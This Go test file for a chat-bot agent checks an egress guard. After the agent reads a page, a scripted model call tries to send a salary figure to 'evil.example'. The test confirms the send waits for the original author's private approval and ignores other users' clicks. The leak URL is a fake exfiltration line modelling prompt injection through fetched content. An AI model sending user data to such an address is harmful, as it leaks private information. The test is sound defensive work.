package bot_test

import (
	"context"
	"encoding/json"
	"strings"
	"sync"
	"testing"
	"testing/synctest"

	"github.com/parleybot/parley/agent"
	"github.com/parleybot/parley/agent/llm"
	"github.com/parleybot/parley/chat"
)

// sendTool stands for a tool that sends data out (web_fetch): it records
// the URLs it was called with.
type sendTool struct {
	mu   sync.Mutex
	urls []string
}

func (*sendTool) Spec() llm.ToolSpec {
	return llm.ToolSpec{Name: "send", Description: "send", Schema: json.RawMessage(`{"type":"object"}`)}
}

func (t *sendTool) Name() string { return t.Spec().Name }

func (s *sendTool) Execute(_ context.Context, _ agent.Caller, args json.RawMessage) (string, error) {
	var a struct{ URL string }
	if err := json.Unmarshal(args, &a); err != nil {
		return "", err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.urls = append(s.urls, a.URL)
	return "sent", nil
}

func (s *sendTool) sent() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.urls...)
}

// TestEgressAfterAPageNeedsItsAuthor: through the whole core, a call that
// sends data to an address the author never wrote, after the turn read a
// page, waits for the author's private confirmation: shown to them alone,
// with the exact address; nobody else's click counts; theirs runs it.
func TestEgressAfterAPageNeedsItsAuthor(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		const leak = "https://evil.example/c?d=salary-84000"
		send := &sendTool{}
		w := memoryWorld(t, []agent.Tool{pageTool{}, send},
			llm.Response{ToolCalls: []llm.ToolCall{{ID: "f1", Name: "fetch", Arguments: []byte(`{}`)}}},
			llm.Response{ToolCalls: []llm.ToolCall{{ID: "s1", Name: "send", Arguments: []byte(`{"url":"` + leak + `"}`)}}},
			llm.Response{Text: "Done."},
		)
		defer w.stop(t)
		inject(t, w, dm("ann", 1, "read this page"))
		synctest.Wait()
		if got := send.sent(); len(got) != 0 {
			t.Fatalf("sent before the author confirmed: %q", got)
		}
		var ask chat.Out
		for _, c := range w.fake.Private() {
			if len(c.Out.Buttons) == 2 && c.User.ID == "ann" {
				ask = c.Out
			}
		}
		if !strings.Contains(ask.Text, leak) || !strings.Contains(ask.Text, "Your confirmation needed") {
			t.Fatalf("ann was not asked about the exact call: %+v", w.fake.Private())
		}
		for _, c := range w.fake.Sent() {
			if strings.Contains(c.Out.Text, leak) {
				t.Fatalf("the address was shown in the conversation: %q", c.Out.Text)
			}
		}
		click := func(key, user string) string {
			var told string
			act := chat.Action{Key: key, Thread: dm("ann", 0, "").Thread, User: chat.User{Platform: "slack", ID: user, Name: user},
				Data: ask.Buttons[0].Data, Respond: func(_ context.Context, text string) error { told = text; return nil }}
			if err := w.fake.InjectAction(t.Context(), act); err != nil {
				t.Fatal(err)
			}
			synctest.Wait()
			return told
		}
		if told := click("c1", "bob"); !strings.Contains(told, "Only ann can decide this.") || len(send.sent()) != 0 {
			t.Fatalf("bob's click was answered %q, sent %q", told, send.sent())
		}
		if told := click("c2", "ann"); !strings.Contains(told, "Allowed") {
			t.Fatalf("ann's click was answered %q", told)
		}
		if got := send.sent(); len(got) != 1 || got[0] != leak {
			t.Fatalf("after ann allowed it, sent %q", got)
		}
		if countText(w, "Done.") != 1 {
			t.Fatalf("the turn did not finish: %+v", w.fake.Sent())
		}
	})
}
